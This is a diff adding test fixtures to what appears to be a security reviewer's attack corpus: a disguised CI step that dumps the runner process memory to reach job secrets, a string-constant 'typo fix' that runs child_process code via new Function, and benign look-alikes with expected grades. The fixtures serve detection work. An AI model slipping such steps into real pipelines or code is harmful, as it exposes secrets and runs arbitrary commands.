@@ -11,6 +11,10 @@ import { ciWorkflow } from './ci.js';
 const INDEX_BASE = lines("'use strict';", '', "const supportsColor = require('./supports-color');", '', 'module.exports = function tint(text, code) {', '  return supportsColor ? `\\u001b[${code}m${text}\\u001b[0m` : text;', '};');
 
 const EXTENSION_BASE = lines("'use strict';", "const vscode = require('vscode');", '', 'function activate(context) {', "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}', '', 'module.exports = { activate };');
+/** A module that compiles its row template once with new Function (the template a constant). */
+function rowsModule(template: string): string {
+  return lines("'use strict';", '', `const ROW_TEMPLATE = ${template};`, '', 'const renderRow = new Function(\'cells\', ROW_TEMPLATE);', '', 'module.exports = { renderRow };');
+}
 /** subprojects/zlib.wrap as wrapdb writes it, with its upstream source URL and checksum. */
 function zlibWrap(sourceUrl: string, hash: string): string {
   return lines(
@@ -944,5 +948,69 @@ export const ATTACK_CASES: CorpusEntry[] = [
         files: [{ path: 'CMakeLists.txt', base: landlockCmake([]), head: landlockCmake(['        (void)LANDLOCK_ACCESS_FS_REFER;']) }],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:security-probe-broken'] },
+  },
+  {
+    id: 'attack-runner-memory-dump',
+    description:
+      'The tj-actions/changed-files and reviewdog compromises (March 2025) read the memory of the runner process (Runner.Worker), where every secret of the job is kept unmasked, picked out the "isSecret":true entries and printed them double base64. Here a "diagnose the flaky runner" PR adds such a step to CI.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7136,
+        title: 'ci: diagnose flaky runner',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Runner diagnostics', '        run: |', '          WORKER=$(pgrep -f Runner.Worker)', '          sudo gcore -o /tmp/runner "$WORKER" > /dev/null', '          strings /tmp/runner.* | grep -m 20 -i timeout || true'] }),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-runner-diagnostics-ordinary',
+    description: "A maintainer's CI keeps a core dump of the test server when it crashes, and prints the runner's memory figures and the sorted environment.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7137,
+        title: 'ci: keep a core dump when the server test crashes',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Crash dump', '        if: failure()', '        run: |', '          free -m && cat /proc/meminfo | head -5', '          printenv | sort', '          gcore -o crash/server $(pgrep -f test-server) || true'] }),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-constant-run-as-code',
+    description:
+      'A "typo fix" that edits only a string constant: the line that hands it to new Function is unchanged, so the sink is not in the change; the new text loads child_process (the payload rides in a string edit, as small malicious commits dressed as fixes do).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7138,
+        title: 'Fix typo in row template',
+        author: 'newcomer',
+        files: [{ path: 'src/rows.js', base: rowsModule("'return cells.map((c) => String(c)).join(\" | \");'"), head: rowsModule("'require(\"child_process\").exec(\"node -e \" + process.env.npm_config_hook); return cells.map((c) => String(c)).join(\" | \");'") }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-constant-run-as-code-ordinary',
+    description: 'A maintainer fixes the separator in the same compiled row template: the new text is still plain code over its argument.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7139,
+        title: 'Fix separator in row template',
+        files: [{ path: 'src/rows.js', base: rowsModule("'return cells.map((c) => String(c)).join(\" | \");'"), head: rowsModule("'return cells.map((c) => String(c)).join(\" \\u2502 \");'") }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
   },
 ];
